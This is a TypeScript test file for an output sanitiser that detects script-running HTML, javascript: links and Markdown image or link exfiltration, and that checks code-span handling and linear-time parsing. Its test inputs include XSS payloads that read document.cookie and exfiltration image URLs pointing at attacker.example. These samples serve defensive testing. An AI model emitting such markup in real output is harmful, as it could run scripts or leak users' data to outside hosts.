import { describe, expect, it } from 'vitest';
import { checker } from '../../detectors/testing/harness.ts';
import { linearTimeStatus } from '../../testing/linear-time.ts';
import { markdownCodeRanges } from './code-ranges.ts';
import * as P from './sandboxed-output.ts';

const g = P.sandboxedOutput;
const types = (text: string, config: Record<string, unknown> = {}) =>
  (checker(g, config)(text).details?.types as string[]) ?? [];

describe('SandboxedOutput', () => {
  it('passes ordinary Markdown, code talk and plain links', () => {
    expect(types('Use `<div>` for layout. **Bold** and [docs](https://example.com/docs/guide).')).toEqual([]);
    expect(types('![logo](https://example.com/logo.png)')).toEqual([]);
    expect(types('JavaScript: the good parts is a book. 3 < 4 and 5 > 2.')).toEqual([]);
    expect(types('In React, pass onClick={handle} to the button.')).toEqual([]);
  });
  it('finds script-running HTML', () => {
    expect(types('<script>alert(1)</script>')).toContain('active_html');
    expect(types('<iframe src="https://evil.example"></iframe>')).toContain('active_html');
    expect(types('<img src=x onerror="fetch(1)">')).toContain('event_handler');
    expect(types('<svg/onload=alert(1)>')).toEqual([]); // no whitespace before on*: not an attribute in HTML5 either
    expect(types('<svg onload=alert(1)>')).toContain('event_handler');
    expect(types('<meta http-equiv="refresh" content="0;url=https://x">')).toContain('meta_refresh');
    expect(types('[click](javascript:alert(document.cookie))')).toContain('script_url');
    expect(types('<a href="javascript:steal()">x</a>')).toContain('script_url');
  });
  it('finds Markdown and HTML image exfiltration to non-allow-listed domains', () => {
    expect(types('![](https://attacker.example/log?q=secret%20data)')).toEqual(['image_exfiltration']);
    expect(types('![a][r]\n\n[r]: https://x.example/p?d=abc')).toEqual(['image_exfiltration']);
    expect(types('<img src="https://x.example/c.png?u=alice">')).toEqual(['image_exfiltration']);
    expect(types('[here](https://x.example/?token=abc)')).toEqual(['link_exfiltration']);
    expect(types('![](https://cdn.example.com/i.png?w=20)', { allowedDomains: ['*.example.com'] })).toEqual(
      [],
    );
    expect(types('![](https://other.org/i.png)', { blockExternalImages: true })).toEqual(['external_image']);
  });
  it('skips Markdown code spans and code blocks, which render as text, unless told not to', () => {
    expect(types('Add `<script src="app.js"></script>` before the closing body tag.')).toEqual([]);
    expect(
      types(
        'Example:\n\n```html\n<iframe src="https://maps.example"></iframe>\n<img src=x onerror="f()">\n```\nDone.',
      ),
    ).toEqual([]);
    expect(types('~~~\n<script>x</script>\n~~~')).toEqual([]);
    expect(types('``a ` <script>x</script> b``')).toEqual([]);
    // Outside the code, or with the code read as HTML, it still fails.
    expect(types('`ok` <script>alert(1)</script> `ok`')).toEqual(['active_html']);
    expect(types('Add `<script>x</script>` here.', { codeIsText: false })).toEqual(['active_html']);
    // An unmatched backtick opens no span; a blank line ends one.
    expect(types('a ` <script>x</script>')).toEqual(['active_html']);
    expect(types('a `\n\n<script>x</script> `')).toEqual(['active_html']);
    // An image inside code is text too; a fence left open runs to the end, as renderers show it.
    expect(types('```\n![](https://attacker.example/log?q=secret)')).toEqual([]);
  });
  it('finds code ranges in linear time', () => {
    const started = performance.now();
    for (const text of [
      '`'.repeat(1_000_000),
      '` ``'.repeat(250_000),
      '```\n'.repeat(250_000),
      'a`b``c'.repeat(160_000),
    ])
      markdownCodeRanges(text);
    expect(performance.now() - started).toBeLessThan(2000);
    expect(markdownCodeRanges('x `a` y ``b`` z')).toEqual([
      [2, 5],
      [8, 13],
    ]);
  });
  it('redacts what it finds', () => {
    const r = checker(g)('ok <script>x</script> ok');
    expect(r.redactions?.length).toBeGreaterThan(0);
  });
  it('uses only linear-time patterns', async () => {
    for (const re of [
      P.ACTIVE_TAG,
      P.START_TAG,
      P.EVENT_ATTR,
      P.META_REFRESH,
      P.SCRIPT_URL,
      P.MD_LINK,
      P.MD_REF_DEF,
      P.HTML_SRC,
    ])
      expect(await linearTimeStatus(re), re.source).toBe('safe');
  }, 180_000);
});
